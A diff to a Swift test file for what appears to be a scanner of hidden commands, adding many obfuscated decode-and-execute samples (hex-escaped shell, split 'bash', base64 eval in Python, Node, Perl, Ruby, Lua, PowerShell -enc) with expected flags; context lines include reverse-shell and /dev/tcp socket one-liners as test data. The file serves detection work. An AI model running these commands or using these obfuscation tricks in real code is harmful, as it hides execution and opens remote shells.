@@ -32,6 +32,28 @@ struct HiddenCommandTests {
     ("red=$(printf '\\033[31m'); printf \"$red\"", []),
     ("echo 'base64 -d | sh'  # a comment: base64 -d x | sh", ["hidden-decoded"]),
     ("# echo bHM= | base64 -d | sh", []),
+    (
+      #"a=ba; b=sh; c=$'\x65\x63\x68\x6f\x20\x68\x69'"# + "\necho \"$c\" | $a$b",
+      ["hidden-decoded"]
+    ),
+    ("a=ba\nb='sh'\nbase64 -d x | ${a}${b}", ["hidden-decoded"]),
+    ("x=as\nbase64 -d x | \"b$x\"h", ["hidden-decoded"]),
+    ("d=base\n${d}64 -d x | sh", ["hidden-decoded"]),
+    (#"eval $'\x65\x63\x68\x6f'"#, ["hidden-decoded"]),
+    (#"$'\145\143\150\157' hi"#, ["hidden-decoded"]),
+    (#"export c=$'\u0065\u0063\u0068\u006f'"# + "\nbash -c \"$c\"", ["hidden-decoded"]),
+    (#"printf -v c '\x65\x63\x68\x6f'"# + "\n$c hi", ["hidden-decoded"]),
+    ("x=abcdehlo\n${x:4:1}${x:2:1}${x:5:1}${x:7:1} hi", ["hidden-decoded"]),
+    ("prefix=/usr; lib=lib$BITS\nIFS=$'\\n\\t'\necho \"$prefix/$lib\" | sed 's,/*$,,'", []),
+    ("a=/bin; b=sh\nbase64 -d x > y; $a/$b run; a=z; echo | $a$b", []),
+    (
+      #"red=$'\x1b[31m'; a=($'\xF0\x9F\x8D\xBA' x); case $k in $'\x1b[A') up;; esac; eval "$red""#,
+      []
+    ),
+    ("v=312; base64 -d x; tag=cp${v:0:1}${v:1:1}; echo \"$tag\"", []),
+    (#"python3 -c "import base64;exec(base64.b64decode('cHJpbnQ='))""#, ["hidden-decoded"]),
+    ("perl -e \"$(echo cHJpbnQ= | base64 -d)\"", ["hidden-decoded"]),
+    (#"python3 -c "import base64,sys; sys.stdout.write(base64.b64decode('eA=='))" > x"#, []),
     ("exec 3<>/dev/tcp/198.51.100.1/80", ["hidden-socket"]),
     ("nc -e /bin/sh h 1", ["hidden-socket"]),
     ("nc -z localhost 80 > /dev/null", []),
@@ -55,6 +77,20 @@ struct HiddenCommandTests {
   static let otherFiles: [(String, String, [String])] = [
     ("Makefile", "all:\n\t@echo bHM= | base64 -d | $(SHELL)\n", ["hidden-decoded"]),
     ("Makefile", "x.o: tests/a.dat\n\ttail -c +33 $< | gzip -dc > $@\n", ["hidden-test-file"]),
+    (
+      "Makefile", "all:\n\t@python3 -c \"import base64;exec(base64.b64decode('eA=='))\"\n",
+      ["hidden-decoded"]
+    ),
+    (
+      "Makefile", "all:\n\tnode -e 'eval(Buffer.from(\"eA==\", \"base64\").toString())'\n",
+      ["hidden-decoded"]
+    ),
+    ("Makefile", "all:\n\t@python3 -c \"import sys; print(sys.version_info[0])\"\n", []),
+    (
+      "CMakeLists.txt",
+      "execute_process(COMMAND python3 -c \"exec(bytes.fromhex('78').decode())\")\n",
+      ["hidden-decoded"]
+    ),
     ("Makefile", "check: tests/a.gz\n\tgzip -dc $< > a; ./run a\n", []),
     ("tests/run.sh", "#!/bin/sh\nsed 1d tests/x | sh\n", []),
     (
@@ -92,6 +128,40 @@ struct HiddenCommandTests {
     ("a.js", "new Function(Buffer.from(x, 'base64').toString())()\n", ["hidden-decoded"]),
     ("a.js", "regexp.exec(text); img.src = 'data:' + atob(x)\n", []),
     ("a.php", "<?php eval(gzinflate(base64_decode('x')));\n", ["hidden-decoded"]),
+    (
+      "a.js", "const m = /a/.exec(atob(x)); re.exec(Buffer.from(y)); assert(atob('eA==') == 'x')\n",
+      []
+    ),
+    ("a.js", "(0, eval)(atob('eA=='))\n", ["hidden-decoded"]),
+    (
+      "a.js",
+      "const p = Buffer.from('\(String(repeating: "eHh4", count: 200))', 'base64') + ''\neval(p)\n",
+      ["hidden-decoded"]
+    ),
+    ("a.js", #"eval("\x61\x6c\x65\x72\x74\x28\x31\x29")"# + "\n", ["hidden-decoded"]),
+    ("a.js", #"eval("\x09\n\r 1"); eval('\u000a')"# + "\n", []),
+    (
+      "Makefile.PL", "eval pack('H*', '7072696e74');\nWriteMakefile(NAME => 'X');\n",
+      ["hidden-decoded"]
+    ),
+    ("Makefile.PL", "my $c = pack('H*', '7072696e74');\neval $c;\n", ["hidden-decoded"]),
+    ("Makefile.PL", "eval { require Test::More; 1 } or warn 'no';\nmy $n = pack('N', 1);\n", []),
+    (
+      "a.rb", "eval ['\(String(repeating: "7072", count: 300))'].pack('H*')\nx = [1].pack('N')\n",
+      ["hidden-decoded"]
+    ),
+    ("a.rb", "x = [1, 2].pack('C*')\ny = 'eA=='.unpack1('m')\n", []),
+    ("a.lua", "load(string.char(112, 114))()\n", ["hidden-decoded"]),
+    (
+      "a.lua", #"loadstring("\112\114\105\110\116\040\049\041")()"# + "\n",
+      ["hidden-decoded"]
+    ),
+    ("a.lua", "local f = load(s); local c = string.char(65)\n", []),
+    ("a.py", "cfg = json.load(b64decode(x)); assert(unhexlify(a) == b)\n", []),
+    (
+      "a.bat", "powershell -NoProfile -enc dwByAGkAdABlAC0AaABvAHMAdAAgADEA\r\n", ["hidden-decoded"]
+    ),
+    ("a.bat", "powershell -enc %1\r\nopenssl -enc dwByAGkAdABlAC0AaABvAHMAdAAgADEA\r\n", []),
     ("a.pl", "eval unpack u=>q{_};\n", ["hidden-decoded"]),
     ("a.pl", "my ($a) = unpack('N', $b); eval { die };\n", []),
     ("a.py", "os.system('bash -i >& /dev/tcp/198.51.100.1/9 0>&1')\n", ["hidden-socket"]),
